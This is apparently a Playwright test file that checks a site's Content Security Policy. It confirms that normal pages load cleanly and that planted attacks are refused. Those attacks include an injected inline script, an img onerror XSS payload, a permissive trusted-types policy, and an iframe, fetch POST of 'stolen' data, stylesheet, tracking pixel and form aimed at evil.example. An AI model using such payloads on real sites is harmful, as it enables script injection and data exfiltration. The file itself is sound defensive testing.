import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { paths } from '../browser/paths.ts';
import { expect, test } from '../browser/test.ts';

test.describe('under the enforced policy', () => {
  test.use({ expectedNoise: [/status of 404/] });

  test('a visitor walks the whole site and nothing of it is refused', async ({ page }) => {
    for (const path of paths) {
      const response = await page.goto(path);
      const header = response?.headers()['content-security-policy'];
      const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      expect(header).toContain("require-trusted-types-for 'script'");
      // The header also names the style sheets of the other languages' pages.
      const rules = (policy: string | null | undefined) => policy?.replace(/ 'sha256-[^']+'/g, '');
      expect(rules(header?.replace("; frame-ancestors 'none'", ''))).toBe(rules(meta));
      // The style sheet of the page is in force, so its hash is the right one.
      expect(
        await page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--paper')),
      ).not.toBe('');
    }
  });

  test('the next page is there before the click, and still not one refusal', async ({ page }) => {
    await page.goto('/');
    const prefetched = page.context().waitForEvent('request', (request) => request.url().endsWith('/cgu'));
    await page.locator('footer a[href="/cgu"]').hover();
    expect((await (await prefetched).allHeaders())['sec-purpose']).toBe('prefetch');
  });
});

test.describe('what an attacker plants is refused:', () => {
  test.use({ expectedNoise: [/Content Security Policy|Trusted(HTML|Script|Type)|evil\.(example|localhost)|violates/] });

  test.beforeEach(async ({ page }) => {
    await page.goto('/deployment');
  });

  test('an inline script in the page', async ({ page }) => {
    await page.route('**/hosting', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', '<script>window.planted = 1</script></body>');
      await route.fulfill({ response, body });
    });
    await page.goto('/hosting');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
  });

  test('scripts, markup, a policy that would trust it, frames, requests, styles, images and forms of another', async ({
    page,
  }) => {
    await page.evaluate(() => {
      Object.assign(window, { refused: [] });
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        (window as unknown as { refused: string[] }).refused.push(effectiveDirective);
      });
    });
    const attacks: (() => unknown)[] = [
      () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.planted = 1' })),
      () => {
        document.body.innerHTML = '<img src=x onerror="window.planted = 1">';
      },
      () => {
        const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy: (...args: unknown[]) => void } };
        trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
      },
      () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
      () => fetch('https://evil.example/', { method: 'POST', body: 'stolen' }),
      () => {
        const href = 'https://evil.example/style.css';
        document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href }));
      },
      () => Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }).src,
    ];
    for (const attack of attacks) await page.evaluate(attack).catch(() => undefined);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.evaluate(() => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
      document.body.append(form);
      form.submit();
    });
    // Each is told twice: the policy stands in the header and in the page.
    const refused = async () =>
      new Set(await page.evaluate(() => (window as unknown as { refused: string[] }).refused));
    await expect
      .poll(refused)
      .toEqual(
        new Set([
          'connect-src',
          'form-action',
          'frame-src',
          'img-src',
          'require-trusted-types-for',
          'style-src-elem',
          'trusted-types',
        ]),
      );
    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
  });

  test('a frame around this site', async ({ page, baseURL }) => {
    const server = createServer((request, response) => {
      const frames = `<iframe src="${baseURL}/hosting"></iframe><iframe src="/own"></iframe>`;
      response.setHeader('Content-Type', 'text/html').end(request.url === '/own' ? '<h1>own</h1>' : frames);
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    await page.goto(`http://evil.localhost:${(server.address() as AddressInfo).port}/`);
    await expect(page.frameLocator('iframe').last().locator('h1')).toHaveText('own');
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    server.close().closeAllConnections();
  });
});
